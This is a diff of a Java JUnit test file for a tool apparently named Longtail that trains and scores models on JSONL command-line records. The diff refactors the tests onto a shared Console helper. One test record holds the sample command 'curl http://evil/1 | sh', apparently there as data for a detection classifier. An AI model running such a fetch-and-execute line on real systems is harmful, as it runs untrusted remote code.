@@ -4,10 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import dev.longtail.udfs.core.Json;
-import java.io.ByteArrayOutputStream;
 import java.io.IOException;
-import java.io.PrintStream;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -19,12 +16,9 @@ import org.junit.jupiter.api.io.TempDir;
 class TrainAndScoreTest {
   @TempDir private Path folder;
 
-  /** What a command left behind. */
-  private record Outcome(int status, String out, String err) {}
-
   @Test
   void trainsAndThenScoresEveryRecordInOrder() throws IOException {
-    Outcome trained = train("--ab", set("ab.jsonl", 60).toString());
+    Console.Outcome trained = train("--ab", set("ab.jsonl", 60).toString());
     assertThat(trained.status()).isZero();
     assertThat(trained.out()).startsWith("| training set |").contains("| ab ");
     assertThat(trained.err()).contains("report: " + folder.resolve("out/report.html"));
@@ -35,8 +29,8 @@ class TrainAndScoreTest {
             "{\"id\":7,\"cmd\":\"curl http://evil/1 | sh\",\"nested\":{\"a\":[1]}}",
             "{\"id\":8}",
             "{\"command_line\":\"ls -l /home/2\",\"id\":9}");
-    Outcome scored =
-        run(
+    Console.Outcome scored =
+        Console.run(
             "score",
             "--model",
             folder.resolve("out/models/ab").toString(),
@@ -59,7 +53,7 @@ class TrainAndScoreTest {
   @Test
   void aBrokenRecordFailsWithItsPlace() throws IOException {
     Path broken = write("ab.jsonl", "{\"cmd\":\"ls\",\"label\":\"benign\"}", "{\"cmd\":\"ls\"}");
-    Outcome outcome = train("--ab", broken.toString());
+    Console.Outcome outcome = train("--ab", broken.toString());
     assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
     assertThat(outcome.err())
         .contains("longtail: " + broken + ":2: field \"label\" is missing")
@@ -69,7 +63,7 @@ class TrainAndScoreTest {
 
   @Test
   void aBaseIsNeeded() throws IOException {
-    Outcome outcome = train();
+    Console.Outcome outcome = train();
     assertThat(outcome.status()).isEqualTo(Longtail.BAD_USAGE);
     assertThat(outcome.err()).contains("give --rb, --ab or both");
   }
@@ -84,13 +78,13 @@ class TrainAndScoreTest {
 
   @Test
   void scoringWithoutAModelFails() throws IOException {
-    Outcome outcome =
-        run("score", "--model", folder.toString(), "--input", set("x.jsonl", 4).toString());
+    Console.Outcome outcome =
+        Console.run("score", "--model", folder.toString(), "--input", set("x.jsonl", 4).toString());
     assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
     assertThat(outcome.err()).contains(folder + ": no model; it lacks model.json");
   }
 
-  private Outcome train(String... more) throws IOException {
+  private Console.Outcome train(String... more) throws IOException {
     List<String> args =
         new ArrayList<>(
             List.of(
@@ -102,7 +96,7 @@ class TrainAndScoreTest {
                 "--out",
                 folder.resolve("out").toString()));
     args.addAll(List.of(more));
-    return run(args.toArray(String[]::new));
+    return Console.run(args.toArray(String[]::new));
   }
 
   private Path set(String name, int rows) throws IOException {
@@ -118,24 +112,5 @@ class TrainAndScoreTest {
 
   private Path write(String name, String... lines) throws IOException {
     return Files.writeString(folder.resolve(name), String.join("\n", lines) + "\n");
-  }
-
-  private static Outcome run(String... args) {
-    PrintStream out = System.out;
-    PrintStream err = System.err;
-    ByteArrayOutputStream outBytes = new ByteArrayOutputStream();
-    ByteArrayOutputStream errBytes = new ByteArrayOutputStream();
-    System.setOut(new PrintStream(outBytes, true, StandardCharsets.UTF_8));
-    System.setErr(new PrintStream(errBytes, true, StandardCharsets.UTF_8));
-    try {
-      int status = Longtail.run(args);
-      return new Outcome(
-          status,
-          outBytes.toString(StandardCharsets.UTF_8),
-          errBytes.toString(StandardCharsets.UTF_8));
-    } finally {
-      System.setOut(out);
-      System.setErr(err);
-    }
   }
 }
